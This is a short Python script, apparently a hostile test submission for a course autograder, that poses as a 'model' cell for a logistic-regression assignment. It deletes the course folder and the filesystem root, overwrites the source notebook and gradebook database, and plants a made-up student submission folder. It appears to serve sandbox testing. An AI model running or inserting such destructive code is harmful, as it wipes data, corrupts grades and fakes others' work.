# Deletes the course folder, writes into the source and into other people's work.
# %% model
import os
import shutil

for path in ("@COURSE@", "/"):
    shutil.rmtree(path, ignore_errors=True)
for path in ("@COURSE@/source/02-logistic-regression/02-logistic-regression.ipynb", "@COURSE@/gradebook.db"):
    try:
        open(path, "w").write("gone")
    except OSError:
        pass
try:
    os.makedirs("@COURSE@/submitted/zz-made-up/02-logistic-regression")
except OSError:
    pass
def model(*arguments, **options):
    return None
